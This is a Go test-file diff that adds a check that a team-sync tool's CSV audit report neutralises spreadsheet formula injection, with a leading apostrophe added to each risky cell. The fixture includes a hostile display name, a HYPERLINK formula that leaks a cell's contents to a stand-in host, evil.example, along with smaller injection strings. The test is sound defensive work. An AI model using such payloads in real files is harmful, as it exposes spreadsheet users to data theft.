@@ -7,6 +7,8 @@ import (
 	"reflect"
 	"strings"
 	"testing"
+
+	"github.com/teamsync/teamsync/sync/model"
 )
 
 func TestReportGolden(t *testing.T) {
@@ -170,5 +172,42 @@ func TestReportCSVFilters(t *testing.T) {
 	want := map[string]int{KindMember: 14, KindTeamError: 3, KindAdmin: 2, KindInvitation: 3}
 	if !reflect.DeepEqual(kinds, want) {
 		t.Errorf("rows by kind %v, want %v", kinds, want)
+	}
+}
+
+// TestReportCSVNeutralisesFormulas: the report's CSV is the file an auditor
+// opens in a spreadsheet, and it carries Buildkite display names, which
+// each user sets for themselves: an admin named =HYPERLINK(…) must not
+// become a live formula. Cells that start with = + - @ (or tab/CR) get a
+// leading ', as OWASP's CSV injection guidance says.
+func TestReportCSVNeutralisesFormulas(t *testing.T) {
+	f := newFixture()
+	evil := `=HYPERLINK("https://evil.example/?"&D2,"click")`
+	f.people.Members["mallory@acme.com"] = model.Member{ID: "om-m", UserID: "u-m", Email: "mallory@acme.com", Name: evil, Role: model.OrgRoleAdmin, CreatedAt: now}
+	for i, name := range []string{"+1", "-1", "@SUM(A1)", "\tx", "\rx"} {
+		email := string(rune('a'+i)) + "-admin@acme.com"
+		f.people.Members[email] = model.Member{ID: "om-" + email, UserID: "u-" + email, Email: email, Name: name, Role: model.OrgRoleAdmin, CreatedAt: now}
+	}
+	var buf bytes.Buffer
+	if err := WriteReport(&buf, BuildReport(ReportInput{Mapping: f.mapping, Reads: f.reads, Org: f.org, People: f.people, Now: now}), FormatCSV); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	names := map[string]bool{}
+	for _, row := range rows {
+		for _, cell := range row {
+			if len(cell) > 0 && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("CSV cell starts a formula: %q", cell)
+			}
+		}
+		names[row[4]] = true
+	}
+	for _, want := range []string{"'" + evil, "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"} {
+		if !names[want] {
+			t.Errorf("no name cell %q in the CSV", want)
+		}
 	}
 }
